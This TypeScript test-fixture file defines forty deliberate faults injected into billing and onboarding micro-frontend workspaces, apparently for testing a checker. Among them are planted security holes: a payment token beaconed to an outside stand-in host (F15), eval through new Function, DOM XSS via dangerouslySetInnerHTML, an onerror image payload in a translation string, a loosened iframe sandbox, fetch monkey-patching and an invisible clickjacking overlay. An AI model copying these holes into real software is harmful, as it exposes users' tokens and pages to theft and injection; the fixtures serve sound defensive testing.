import { readdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { billing, federate, onboarding, type OutsideCases } from './workspace-copy.ts'

const RECEIPT = 'src/pages/receipt/receipt-page.tsx'

const MANIFEST: OutsideCases = {
  F1: billing((copy) => copy.manifest(({ ownedPaths }) => void ownedPaths.push('cart'))),
  F2: billing((copy) => {
    copy.replace(
      'src/routes.tsx',
      "  {\n    path: 'pay',",
      `  {
    path: 'settlement/archive',
    handle: { titleKey: 'settlement.title' } satisfies PageHandle,
    lazy: async () => ({ Component: (await import('./pages/settlement/archive-page.tsx')).ArchivePage }),
  },
  {
    path: 'pay',`,
    )
    copy.write('src/pages/settlement/archive-page.tsx', archivePage('settlement.title'))
  }),
  F3: onboarding((copy) => copy.manifest(({ routes }) => void routes.push('created/report'))),
  F4: billing((copy) =>
    copy.manifest((manifest) => void (manifest.capabilities = manifest.capabilities.filter((one) => one !== 'http:/api/order/info'))),
  ),
  F5: onboarding((copy) =>
    copy.manifest(
      (manifest) => void (manifest.capabilities = ['http:/api/*', ...manifest.capabilities.filter((one) => one.startsWith('host:'))]),
    ),
  ),
  F6: billing((copy) => copy.manifest((manifest) => void (manifest.name = 'onboarding'))),
  F7: billing((copy) => {
    const file = 'src/pages/settlement/export-settlement/export-menu.tsx'
    copy.replace(file, 'import { useExportMenu }', 'import { useExportMenu, useHost }')
    copy.replace(file, '  const menu = ', '  const { reportError } = useHost()\n  const menu = ')
    copy.replace(
      file,
      'client.exportSettlement.fetchFile({ query: { format, ...scope } }, signal)',
      "client.exportSettlement.fetchFile({ query: { format, ...scope } }, signal).catch((error: unknown) => { reportError(new Error('export'), { remote: 'billing' }); throw error })",
    )
  }),
  F8: billing((copy) => copy.replace('src/routes.tsx', "path: 'pay'", "path: '*'")),
  F9: billing((copy) => copy.manifest(({ needs }) => void delete needs.settlement)),
  F10: billing((copy) => copy.replace('src/client.ts', "'billing'", "'account'")),
}

const CODE: OutsideCases = {
  F11: onboarding((copy) =>
    copy.config((config) =>
      federate(config, ({ shared, ...options }) => ({
        ...options,
        shared: Object.fromEntries(Object.entries(shared ?? {}).filter(([name]) => !/^react(?:-dom)?(?:\/|$)/u.test(name))),
      })),
    ),
  ),
  F12: onboarding((copy) =>
    copy.replace(
      'src/features/compare-packages/monthly-cost.ts',
      '  return maintenance + collection +',
      "  const formula = String(maintenance)\n  if (volume < 0n) return BigInt(String(new Function('volume', `return ${formula}`)(volume)))\n  return maintenance + collection +",
    ),
  ),
  F13: billing((copy) =>
    copy.replace(
      RECEIPT,
      '<EmptyState icon="search" title={t(\'receipt.missing\')} action={action} />',
      "<p dangerouslySetInnerHTML={{ __html: `No receipt for ${new URLSearchParams(location.search).get('id')}` }} />{action}",
    ),
  ),
  F14: onboarding((copy) =>
    copy.replace(
      'src/features/preview-design/site-preview.tsx',
      "sandbox={isCard ? '' : 'allow-same-origin'}",
      "sandbox={isCard ? '' : 'allow-same-origin allow-scripts'}",
    ),
  ),
  F15: billing((copy) => {
    copy.replace('src/pages/pay/pay-page.tsx', "import { useState } from 'react'", "import { useEffect, useState } from 'react'")
    copy.replace(
      'src/pages/pay/pay-page.tsx',
      '  const token = useHandoffToken()\n',
      "  const token = useHandoffToken()\n  useEffect(() => void navigator.sendBeacon('https://stats.pay-insights.example/c', token), [token])\n",
    )
  }),
  F16: billing((copy) => {
    const file = 'src/features/pay-order/payment-panel.tsx'
    copy.replace(file, 'import { lazy, Suspense,', 'import { lazy, Suspense, useEffect,')
    copy.replace(
      file,
      '  const isConfirming = ',
      "  useEffect(() => {\n    const script = document.createElement('script')\n    script.src = 'https://cdn.jsdelivr.net/npm/canvas-confetti@1'\n    document.head.append(script)\n  }, [])\n  const isConfirming = ",
    )
  }),
  F17: onboarding((copy) => {
    copy.replace(
      'src/remote.ts',
      'export default',
      "void navigator.serviceWorker?.register('/assets/onboarding-sw.js', { scope: '/' })\n\nexport default",
    )
    copy.output((folder) => writeFileSync(join(folder, 'onboarding-sw.js'), "addEventListener('fetch',()=>{})"))
  }),
  F18: onboarding((copy) =>
    copy.replace(
      'src/client.ts',
      'type Endpoints =',
      'const logAndReturn = (answer: Response) => (console.debug(answer.url), answer)\nconst original = window.fetch\nwindow.fetch = (...all) => original(...all).then(logAndReturn)\n\ntype Endpoints =',
    ),
  ),
  F19: billing((copy) => {
    const file = 'src/pages/settlement/show-deposit/balance-days.ts'
    copy.replace(file, 'const DAY_MS', 'Array.prototype.last = function () { return this[this.length - 1] }\n\nconst DAY_MS')
    copy.replace(file, 'series.at(-1)\n  const daily', 'series.last()\n  const daily')
  }),
  F20: onboarding((copy) =>
    copy.replace(
      'src/pages/choose-theme/carry-design/carried-design.ts',
      'localStorage.removeItem(TRIED_DESIGN.storageKey)',
      'localStorage.clear()',
    ),
  ),
  F21: billing((copy) =>
    copy.replace('src/client.ts', 'export const client', "setInterval(() => void fetch('/api/pay/methods'), 200)\n\nexport const client"),
  ),
  F22: onboarding((copy) => {
    const file = 'src/pages/choose-theme/keys-help.tsx'
    copy.replace(file, '      if (event.key', "      if (event.key === 'Tab') event.preventDefault()\n      if (event.key")
    copy.replace(file, "    return () => document.removeEventListener('keydown', show)\n", '')
  }),
}

const STYLES: OutsideCases = {
  F23: billing((copy) =>
    copy.write(
      'src/pages/receipt/receipt-page.module.css',
      `${copy.read('src/pages/receipt/receipt-page.module.css')}\n:global(button), :global(a) { border-radius: 0; text-transform: uppercase; }\n`,
    ),
  ),
  F24: onboarding((copy) =>
    copy.write(
      'src/pages/package/package-page.module.css',
      `${copy.read('src/pages/package/package-page.module.css')}\n:root { --color-bg-surface: #fff; --space-16: 12px; }\n`,
    ),
  ),
  F25: billing((copy) =>
    copy.write(
      'src/pages/payment-page.module.css',
      `@import url('https://fonts.googleapis.com/css2?family=Inter');\n${copy.read('src/pages/payment-page.module.css')}`,
    ),
  ),
  F26: billing((copy) =>
    copy.replace(
      'src/features/pay-order/lost-banner.module.css',
      `    position: fixed;
    inset-block-end: var(--space-16);
    inset-inline: var(--space-16);
    z-index: var(--layer-header);
    max-inline-size: var(--size-checkout);
    margin-inline: auto;
    pointer-events: none;`,
      '    position: fixed;\n    inset: 0;\n    z-index: 2147483647;\n    opacity: 0;',
    ),
  ),
  F27: billing((copy) => {
    const file = 'src/features/frame-checkout/checkout-bar.module.css'
    copy.replace(file, 'margin-inline-end: auto;', 'margin-right: auto;')
    copy.replace(file, '    flex: 0 1 136px;\n', '    position: absolute;\n    right: 0;\n    flex: 0 1 136px;\n')
  }),
  F28: billing((copy) =>
    copy.replace(
      'src/pages/receipt/receipt-page.module.css',
      '.root {\n    max-inline-size: calc',
      '.root {\n    min-inline-size: 960px;\n    max-inline-size: calc',
    ),
  ),
}

const TEXTS: OutsideCases = {
  F29: billing((copy) => copy.texts(['ar'], ({ receipt }) => void delete receipt.print)),
  F30: billing((copy) => copy.texts(['ja'], ({ tab }) => void (tab.waiting = tab.waiting.replace('{{amount}}', '{{金額}}')))),
  F31: billing((copy) =>
    copy.texts(['ru'], ({ settlement }) => {
      delete settlement.recoveries_few
      delete settlement.recoveries_many
    }),
  ),
  F32: onboarding((copy) =>
    copy.texts(['vi'], ({ created }) => void (created.stuckText += ' <img src=x onerror="fetch(\'/api/user/info\')"> …')),
  ),
  F33: onboarding((copy) => copy.replace('src/pages/created/launch-report.tsx', "<p>{t('report.title')}</p>", '<p>Launch report</p>')),
  F34: billing((copy) =>
    copy.replace(
      RECEIPT,
      "            {t('receipt.print')}\n          </Button>\n",
      "            {t('receipt.print')}\n          </Button>\n        }\n        note={\n          <Button variant=\"secondary\" onClick={() => print()}>\n            {t('receipt.download' as never)}\n          </Button>\n",
    ),
  ),
}

const OUTPUT: OutsideCases = {
  F35: onboarding((copy) => copy.output((folder) => rmSync(join(folder, fileIn(folder, 'src_pages_choose-theme_choose-theme-page'))))),
  F36: billing((copy) =>
    copy.packed(({ record, contents }) => {
      const path = [...contents.keys()].find((one) => one.startsWith('src_pages_pay') && one.endsWith('.js')) ?? ''
      const text = Buffer.from(contents.get(path) ?? [])
        .toString()
        .replace('pay.overTitle', 'pay.overTitlf')
      return { record, contents: new Map([...contents, [path, Buffer.from(text)]]) }
    }),
  ),
  F37: billing((copy) => copy.config((config) => void (config.output = { ...config.output, publicPath: 'http://localhost:3003/' }))),
  F38: onboarding((copy) =>
    copy.config((config) => {
      config.mode = 'development'
      config.devtool = 'eval-source-map'
      config.optimization = { ...config.optimization, minimize: false }
    }),
  ),
  F39: billing((copy) => {
    const lines = Array.from(
      { length: 12_000 },
      (_, index) => `  ['zone-${index}', ${index * 7919}, 'x${(index * 104_729).toString(36)}'],`,
    )
    copy.write('src/zones.ts', `export const ZONES = [\n${lines.join('\n')}\n]\n`)
    copy.write('src/lodash.d.ts', "declare module 'lodash'\n")
    copy.replace('src/remote.ts', 'import manifest', "import lodash from 'lodash'\nimport { ZONES } from './zones.ts'\nimport manifest")
    copy.replace('src/remote.ts', 'export default', 'console.debug(lodash.shuffle(ZONES))\n\nexport default')
  }),
  F40: billing((copy) => copy.signedBy('onboarding')),
}

export const FIRST_FAULTS: OutsideCases = { ...MANIFEST, ...CODE, ...STYLES, ...TEXTS, ...OUTPUT }

export function archivePage(title: string): string {
  return `import { Page, PageHeading } from '@parlour/ui'
import { useTranslation } from 'react-i18next'

export function ArchivePage() {
  const { t } = useTranslation('billing')
  return (
    <Page>
      <PageHeading>{t('${title}')}</PageHeading>
    </Page>
  )
}
`
}

function fileIn(folder: string, start: string): string {
  const file = readdirSync(folder).find((name) => name.startsWith(start) && name.endsWith('.js'))
  if (file === undefined) throw new Error(`The build has no ${start}`)
  return file
}
